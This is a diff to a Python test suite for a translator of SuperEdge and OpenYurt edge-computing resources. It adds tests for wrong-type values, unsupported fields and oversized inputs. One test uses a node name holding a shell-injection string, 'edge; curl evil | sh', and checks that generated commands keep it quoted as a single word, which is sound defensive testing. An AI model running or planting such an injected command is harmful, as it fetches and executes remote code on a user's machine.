@@ -4,6 +4,7 @@ OpenYurt's and KubeEdge's own types and examples."""
 import contextlib
 import copy
 import json
+import shlex
 from pathlib import Path
 from typing import Any
 
@@ -114,7 +115,7 @@ def test_every_field_is_either_carried_over_or_said_not_to_be(name: str) -> None
 def test_a_value_of_a_wrong_type_is_refused_with_its_place_or_reported(name: str) -> None:
     whole = documents(name)
     for path in places(whole):
-        for wrong in (7, "x", [{"a": 1}]):
+        for wrong in (None, 7, "x", [{"a": 1}]):
             with contextlib.suppress(Invalid):  # and nothing else
                 translate(changed(whole, path, wrong), NODES)
 
@@ -212,3 +213,42 @@ def test_an_edge_application_and_its_overriders_are_a_grid_with_overrides() -> N
         "beijing": ("edge-3",),
         "hangzhou": ("edge-1", "edge-2", "edge-5"),
     }
+
+
+def test_commands_hold_names_of_the_input_as_words_of_a_shell() -> None:
+    odd = "edge; curl evil | sh"
+    unit = {
+        "apiVersion": "site.superedge.io/v1alpha1",
+        "kind": "NodeUnit",
+        "metadata": {"name": "u"},
+        "spec": {"nodes": [odd], "unschedulable": True, "taints": [{"key": "a"}]},
+    }
+    group = {"apiVersion": unit["apiVersion"], "kind": "NodeGroup", "metadata": {"name": "g"}}
+    whole = [unit, {**group, "spec": {"nodeUnits": ["u"]}}]
+    found = [shlex.split(each.command) for each in translate(whole, NODES).findings("lost") if each.command]
+    assert len(found) == 3
+    assert all(odd in words for words in found)
+
+
+def test_what_no_version_of_a_yurtappset_has_is_not_said_to_be_carried_over() -> None:
+    for name, field, value in (
+        ("openyurt-v1alpha1", "pools", ["a"]),
+        ("openyurt", "selector", {"matchLabels": {"a": "b"}}),
+    ):
+        whole = documents(name)
+        holder = whole[0].get("items", whole)
+        next(each for each in holder if each["kind"] == "YurtAppSet")["spec"][field] = value
+        lost = {each.pointer for each in translate(whole, NODES).findings("lost")}
+        assert any(each.endswith(f"/spec/{field}") for each in lost)
+
+
+def test_a_small_input_is_no_work_of_hours() -> None:
+    """Each operation of a patch is tried for each pool."""
+    whole = documents("openyurt")
+    holder = whole[0].get("items", whole)
+    app = next(each for each in holder if each["kind"] == "YurtAppSet")["spec"]
+    app["pools"] = [f"p{number}" for number in range(1000)]
+    patch = {"operation": "replace", "path": "/spec/replicas", "value": 2}
+    app["workload"]["workloadTweaks"] = [{"pools": app["pools"], "tweaks": {"patches": [patch] * 1000}}]
+    with pytest.raises(Invalid, match="more than 20000 changes"):
+        translate(whole, NODES)
